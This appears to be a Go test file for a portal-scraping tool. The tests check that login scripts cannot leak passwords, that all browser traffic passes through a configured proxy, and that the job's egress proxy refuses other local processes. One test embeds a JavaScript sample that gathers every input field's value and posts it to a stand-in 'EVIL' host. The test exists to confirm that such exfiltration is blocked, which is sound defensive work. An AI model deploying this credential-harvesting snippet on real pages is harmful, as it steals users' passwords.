package portals

import (
	"context"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/twofetch/twofetch"
	"github.com/twofetch/twofetch/internal/testenv"
)

// TestScriptCannotExfiltrate: a js step posts the typed password to a host
// the script does not list. The browser's request is refused before it
// leaves, and the run ends as portal_changed naming the URL, redacted.
func TestScriptCannotExfiltrate(t *testing.T) {
	pool := testPool(t)
	host, s := newSite(t)
	evil, _ := newSite(t)
	src := header + "two_factor: []\n" + `
login:
  - navigate: https://HOST/login
  - type: {selector: "input[name=password]", value: "{{password}}"}
  - js:
      script: |
        // Reads every field's value without naming one: lint cannot tell
        // this from harmless code, so the browser must stop it.
        const p = [...document.querySelectorAll('input')].map(i => i.value).join(' ');
        try { await fetch('https://EVIL/steal?p=' + encodeURIComponent(p), {method: 'POST', body: p, mode: 'no-cors'}); } catch (e) {}
        return true
documents:
  - go: noop
`
	src = strings.ReplaceAll(src, "EVIL", evil)
	res, err := runJob(t, NewRunner(scriptFor(t, host, src), pool, Steps{"noop": func(context.Context, *StepContext) error { return nil }}), testJob(t, &fakeSecrets{password: s.password}, &memStore{}, nil))
	if twofetch.OutcomeOf(err) != twofetch.OutcomePortalChanged || !strings.Contains(err.Error(), "https://"+evil+"/") {
		t.Fatalf("outcome %s (%v), want portal_changed naming %s\n%s", twofetch.OutcomeOf(err), err, evil, stepsText(res))
	}
	if strings.Contains(err.Error(), "correct") {
		t.Errorf("the error carries the password: %v", err)
	}
	shared.mu.Lock()
	evilSite := shared.site[evil]
	shared.mu.Unlock()
	evilSite.mu.Lock()
	defer evilSite.mu.Unlock()
	if len(evilSite.hits) != 0 {
		t.Errorf("the other host received %v", evilSite.hits)
	}
}

// TestProxyCarriesEverything runs a job through a login's proxy on
// loopback, HTTP and SOCKS5 (microsocks, a server independent of the
// client here). The proxy reaches the portal from 127.0.0.2, so the portal
// tells proxied requests from any that bypassed it: the page, an image, an
// iframe, a worker's fetch and a download all arrive through the proxy.
func TestProxyCarriesEverything(t *testing.T) {
	pool := testPool(t)
	t.Run("http", func(t *testing.T) {
		carriesEverything(t, pool, func(origin string) (string, string, func() []string) {
			proxy := startLoopbackProxy(t, origin, "alice:s3cret")
			host := fmt.Sprintf("proxied%d.portal.test", time.Now().UnixNano()%1e6)
			return host, "http://alice:s3cret@" + proxy.addr, proxy.connects
		})
	})
	t.Run("socks5", func(t *testing.T) {
		carriesEverything(t, pool, func(origin string) (string, string, func() []string) {
			socks := testenv.StartSocks5(t, "alice", "s3cret", "127.0.0.2")
			// The SOCKS server resolves the name the browser asked for
			// itself, so the portal is a loopback name on the origin's
			// port.
			_, port, _ := net.SplitHostPort(origin)
			return "localhost:" + port, "socks5://alice:s3cret@" + socks.Addr, socks.Connects
		})
	})
}

// carriesEverything runs a job whose portal is an origin on loopback, at
// the host the upstream func names, through the proxy it starts.
func carriesEverything(t *testing.T, pool *Pool, upstream func(origin string) (host, proxyURL string, connects func() []string)) {
	var mu sync.Mutex
	seen := map[string]string{} // path -> client address
	origin := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		ip, _, _ := net.SplitHostPort(r.RemoteAddr)
		mu.Lock()
		seen[r.URL.Path] = ip
		mu.Unlock()
		switch r.URL.Path {
		case "/login":
			fmt.Fprint(w, `<!doctype html><html><body><img src="/img.png"><iframe src="/frame"></iframe>
<a class="dl" href="/file.pdf" download>PDF</a>
<script>const wk = new Worker('/w.js'); wk.onmessage = () => { const p = document.createElement('p'); p.id = 'ready'; p.textContent = 'ready'; document.body.append(p); };</script>
</body></html>`)
		case "/w.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, `fetch('/from-worker').then(r => r.text()).then(t => postMessage(t));`)
		case "/file.pdf":
			w.Header().Set("Content-Type", pdfType)
			w.Header().Set("Content-Disposition", `attachment; filename="file.pdf"`)
			w.Write(invoice{ID: "P-1"}.pdf())
		default:
			fmt.Fprint(w, "ok")
		}
	}))
	origin.StartTLS()
	defer origin.Close()

	host, proxyURL, connects := upstream(origin.Listener.Addr().String())
	name, _, _ := strings.Cut(host, ":")
	src := strings.ReplaceAll(header, "HOST", name) + "two_factor: []\n" + `
login:
  - navigate: https://HOST/login
  - wait: {selector: "#ready"}
documents:
  - download: {id: P-1, click: "a.dl", content_type: application/pdf}
`
	job := testJob(t, &fakeSecrets{}, &memStore{}, nil)
	job.Proxy = proxyURL
	res, err := runJob(t, NewRunner(scriptFor(t, host, src), pool), job)
	if err != nil || res.New != 1 {
		t.Fatalf("run through the proxy: %v, %d new\n%s", err, res.New, stepsText(res))
	}
	mu.Lock()
	defer mu.Unlock()
	for _, path := range []string{"/login", "/img.png", "/frame", "/w.js", "/from-worker", "/file.pdf"} {
		if ip, ok := seen[path]; !ok || ip != "127.0.0.2" {
			t.Errorf("%s: reached the portal from %q, want 127.0.0.2 (through the proxy)", path, ip)
		}
	}
	for p, ip := range seen {
		if ip != "127.0.0.2" {
			t.Errorf("%s bypassed the proxy (from %s)", p, ip)
		}
	}
	want := host
	if !strings.Contains(want, ":") {
		want += ":443"
	}
	got := connects()
	if len(got) == 0 {
		t.Errorf("the proxy was asked for nothing")
	}
	for _, c := range got {
		if c != want {
			t.Errorf("the proxy was asked for %s, want only %s", c, want)
		}
	}
}

// loopbackProxy is an HTTP proxy on loopback that admits CONNECT with one
// user:password and reaches the origin from 127.0.0.2, so the origin tells
// proxied requests from any that bypassed it.
type loopbackProxy struct {
	addr string
	mu   sync.Mutex
	seen []string // CONNECT targets
}

func (p *loopbackProxy) connects() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.seen...)
}

func startLoopbackProxy(t testing.TB, origin, userinfo string) *loopbackProxy {
	t.Helper()
	p := &loopbackProxy{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodConnect || r.Header.Get("Proxy-Authorization") != "Basic "+base64.StdEncoding.EncodeToString([]byte(userinfo)) {
			http.Error(w, "no", http.StatusProxyAuthRequired)
			return
		}
		p.mu.Lock()
		p.seen = append(p.seen, r.Host)
		p.mu.Unlock()
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}}
		up, err := d.Dial("tcp", origin)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		w.WriteHeader(http.StatusOK)
		down, buf, err := w.(http.Hijacker).Hijack()
		if err != nil {
			up.Close()
			return
		}
		// A client may send its TLS hello right behind the CONNECT; what
		// the server already read of it is in buf, not on the connection.
		go func() { io.Copy(up, buf); up.Close() }()
		io.Copy(down, up)
		down.Close()
	}))
	t.Cleanup(srv.Close)
	p.addr = srv.Listener.Addr().String()
	return p
}

// TestAttackEgressFromAnotherProcess: a job's egress proxy listens on the
// worker's loopback, where any local process can connect. Without the
// job's credentials, which only its browser is given, it is refused
// (407): it cannot borrow the job's way to the portal or its upstream
// proxy.
func TestAttackEgressFromAnotherProcess(t *testing.T) {
	var mu sync.Mutex
	var hits []string
	origin := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits = append(hits, r.URL.Path)
		mu.Unlock()
		fmt.Fprint(w, "portal")
	}))
	defer origin.Close()
	plain := httptest.NewServer(origin.Config.Handler)
	defer plain.Close()
	eg, err := startEgress(egressConfig{
		Allow:   []string{"portal.test", "plain.test"},
		Resolve: []string{"MAP portal.test " + origin.Listener.Addr().String() + ", MAP plain.test " + plain.Listener.Addr().String()},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer eg.Close()
	get := func(proxy *url.URL, target string) (int, error) {
		c := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxy),
			TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}, Timeout: 10 * time.Second}
		resp, err := c.Get(target)
		if err != nil {
			return 0, err
		}
		resp.Body.Close()
		return resp.StatusCode, nil
	}
	bare, _ := url.Parse(eg.URL())
	wrong := *bare
	wrong.User = url.UserPassword(eg.user, "guessed")
	for _, proxy := range []*url.URL{bare, &wrong} {
		for _, target := range []string{"https://portal.test/secret", "http://plain.test/secret"} {
			code, err := get(proxy, target)
			if err == nil && code != http.StatusProxyAuthRequired {
				t.Errorf("%s through %s: %d, want 407", target, proxy.Redacted(), code)
			}
		}
	}
	mu.Lock()
	if len(hits) != 0 {
		t.Errorf("the portal received %v from a process without the job's credentials", hits)
	}
	mu.Unlock()
	// The job's own credentials pass: the refusals above are about them.
	job := *bare
	job.User = url.UserPassword(eg.user, eg.password)
	for _, target := range []string{"https://portal.test/ok", "http://plain.test/ok"} {
		if code, err := get(&job, target); err != nil || code != http.StatusOK {
			t.Errorf("%s with the job's credentials: %d %v", target, code, err)
		}
	}
}
